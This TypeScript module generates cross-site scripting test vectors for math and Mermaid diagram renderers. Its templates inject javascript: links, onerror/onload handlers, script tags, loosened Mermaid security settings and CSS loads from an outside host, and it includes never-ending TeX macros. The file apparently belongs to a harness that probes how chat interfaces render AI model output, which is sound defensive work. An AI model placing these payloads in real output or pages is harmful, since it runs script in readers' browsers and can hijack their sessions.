import type { Vector } from '../payload.ts'

/** TeX that would make links, load pictures, set attributes or never end. Written without its dollars. */
const FORMULAS: Vector[] = [
  ({ run, n }) => `\\href{javascript:${run}}{${n}}`,
  ({ run, n }) => `\\href{java\\script:${run}}{\\text{${n}}}`,
  ({ run }) => `\\url{javascript:${run}}`,
  ({ from }) => `\\includegraphics[width=9em]{${from}}`,
  ({ run }) => `\\includegraphics[alt="x" onerror=${run}]{x}`,
  ({ run, n }) => `\\htmlData{x=1, onclick=${run}}{${n}}`,
  ({ run, n }) => `\\htmlClass{x" onclick="${run}}{${n}}`,
  ({ run, n }) => `\\htmlId{x" onfocus="${run}" autofocus="}{${n}}`,
  ({ from, n }) => `\\htmlStyle{background:url(${from})}{${n}}`,
  ({ run }) => `\\text{<img src=x onerror=${run}>}`,
  ({ run }) => `\\text{</span><script>${run}</script>}`,
  ({ run }) => `\\textcolor{"><img src=x onerror=${run}>}{x}`,
  ({ from, n }) => `\\color{red;background:url(${from})}{${n}}`,
  ({ run, n }) => `\\def\\x{\\href{javascript:${run}}{${n}}}\\x\\x`,
  ({ run, n }) => `\\newcommand{\\x}[1]{\\url{javascript:#1}}\\x{${run}}\\text{${n}}`,
  ({ run }) => `\\unicode{<img src=x onerror=${run}>}`,
  ({ from, n }) => `\\style{background:url(${from})}{${n}}\\class{x}{x}\\cssId{x}{x}`,
  ({ run, n }) => `\\require{html}\\href{javascript:${run}}{${n}}`,
  ({ run, n }) =>
    `\\begin{matrix}\\href{javascript:${run}}{${n}}&\\text{<b onclick=${run}>}\\end{matrix}`,
  ({ run, n }) => `\\def\\a{\\a\\a}\\a \\text{${n} ${run}}`,
  ({ run, n }) => `\\rule{99999em}{99999em}\\text{${n} <svg onload=${run}>}`,
  ({ run }) => `<img src=x onerror=${run}>`,
  ({ run, n }) => `\\verb|<script>${run}</script>| ${n}`,
  ({ run, n }) => `\\operatorname{<img src=x onerror=${run}>}_{${n}}`,
  ({ run, n }) => `\\tag{<img src=x onerror=${run}>} ${n}`,
  ({ run, n }) => `\\char"3C \\char\`< img onerror=${run} ${n}`,
  ({ run, n }) => `\\href{data:text/html,<script>${run}</script>}{${n}}`,
]

const DELIMITERS: [string, string][] = [
  ['$', '$'],
  ['$$', '$$'],
  ['\\(', '\\)'],
  ['\\[', '\\]'],
  ['$$\n', '\n$$'],
  ['\\[\n', '\n\\]'],
]

/** Each of them between each pair of delimiters. */
export const MATH: Vector[] = Array.from(
  { length: FORMULAS.length * DELIMITERS.length },
  (_, i) => (target) => {
    const [before, after] = DELIMITERS[(i + Math.floor(i / FORMULAS.length)) % DELIMITERS.length]!
    return `${before}${FORMULAS[i % FORMULAS.length]!(target)}${after}`
  },
)

/** Diagrams whose source asks for more than a drawing. Written without their fence. */
const SOURCES: Vector[] = [
  ({ run }) =>
    `flowchart LR\n  subgraph "<img src=x onerror=${run}>"\n  A\n  end\n  A --> constructor\n  A --> __proto__`,
  ({ run }) => `flowchart LR\n  A["<script>${run}</script>"] --> B["<img src=x onerror='${run}'>"]`,
  ({ run }) => `flowchart LR\n  A["<svg onload=${run}>"] -->|"<b onclick=${run}>x</b>"| B`,
  ({ run }) => `flowchart LR\n  A --> B\n  click A href "javascript:${run}" _top`,
  ({ from }) => `flowchart LR\n  A --> B\n  click A "${from}" "tip" _self`,
  ({ run, n }) => `flowchart LR\n  A[${n}] --> B\n  click A call canary(${n})\n  click B ${run}`,
  ({ run, n }) =>
    `%%{init: {"securityLevel": "loose", "secure": [], "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src=x onerror=${run}>"] --> B\n  click B call canary(${n})`,
  ({ run, n }) =>
    `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  dompurifyConfig:\n    ADD_TAGS: [script, iframe]\n---\nflowchart LR\n  A["<iframe srcdoc='<script>${run}</script>'></iframe>${n}"]`,
  ({ from, n }) =>
    `%%{init: {"themeCSS": "@import url(${from}); *{background:url(${from})}"}}%%\nflowchart LR\n  A[${n}]`,
  ({ from, n }) =>
    `%%{init: {"fontFamily": "x;}@import url(${from});{", "themeVariables": {"fontFamily": "x;}@font-face{src:url(${from})}"}}}%%\nflowchart LR\n  A[${n}]`,
  ({ from, n }) =>
    `flowchart LR\n  A:::x --> B[${n}]\n  classDef x fill:url(${from}),background:url(${from})`,
  ({ from, n }) =>
    `flowchart LR\n  B[${n}]\n  style B fill:url(${from}#x),background-image:url(${from})`,
  ({ from, n }) =>
    `flowchart LR\n  A --> B[${n}]\n  linkStyle 0 stroke:url(${from}),marker-end:url(${from})`,
  ({ from, n }) => `flowchart LR\n  A@{ img: "${from}", label: "${n}", w: 60, h: 60 } --> B`,
  ({ run, n }) => `flowchart LR\n  A@{ icon: "<img src=x onerror=${run}>", label: "${n}" } --> B`,
  ({ from }) =>
    `flowchart LR\n  A["<foreignObject><meta http-equiv='refresh' content='0;url=${from}'></foreignObject>"]`,
  ({ run, from }) =>
    `classDiagram\n  class A["<img src=x onerror=${run}>"]\n  link A "${from}" "tip<script>${run}</script>"\n  click A href "javascript:${run}" _top`,
  ({ run, from }) =>
    `sequenceDiagram\n  participant A as <img src="${from}" onerror="${run}">\n  link A: Site @ ${from}\n  links A: {"x": "javascript:${run}"}\n  A->>A: <script>${run}</script>`,
  ({ run }) =>
    `stateDiagram-v2\n  state "<img src=x onerror=${run}>" as s\n  [*] --> s : <script>${run}</script>`,
  ({ run, n }) =>
    `pie title <img src=x onerror=${run}>\n  "<script>${run}</script>" : 1\n  "${n}" : 2`,
  ({ run }) =>
    `gantt\n  title <script>${run}</script>\n  section <img src=x onerror=${run}>\n  t :a1, 2024-01-01, 1d\n  click a1 href "javascript:${run}"`,
  ({ run }) => `erDiagram\n  "<img src=x onerror=${run}>" ||--o{ B : "<script>${run}</script>"`,
  ({ run }) => `mindmap\n  root(("<img src=x onerror=${run}>"))\n    <script>${run}</script>`,
  ({ run }) => `timeline\n  title <script>${run}</script>\n  2024 : <img src=x onerror=${run}>`,
  ({ run }) =>
    `gitGraph\n  commit id: "<img src=x onerror=${run}>"\n  branch "<script>${run}</script>"`,
  ({ run }) =>
    `journey\n  title <script>${run}</script>\n  section <img src=x onerror=${run}>\n    x: 5: <b onclick=${run}>`,
  ({ run }) =>
    `quadrantChart\n  title <script>${run}</script>\n  "<img src=x onerror=${run}>": [0.3, 0.6]`,
  ({ run }) =>
    `requirementDiagram\n  requirement r { id: "<script>${run}</script>" text: "<img src=x onerror=${run}>" }`,
  ({ run }) =>
    `flowchart LR\n  A["\`**<img src=x onerror=${run}>**\`"] --> B["$$\\href{javascript:${run}}{x}$$"]`,
  ({ run }) =>
    `flowchart LR\n  A["#lt;img src=x onerror=${run}#gt;"] --> B["#60;script#62;${run}#60;/script#62;"]`,
  ({ run }) =>
    `graph TD\n  accTitle: <script>${run}</script>\n  accDescr { <img src=x onerror=${run}> }\n  A-->B`,
]

/** The sources, as a model writes them. */
export const DIAGRAMS: Vector[] = SOURCES.map(
  (source) => (target) => `\`\`\`mermaid\n${source(target)}\n\`\`\``,
)
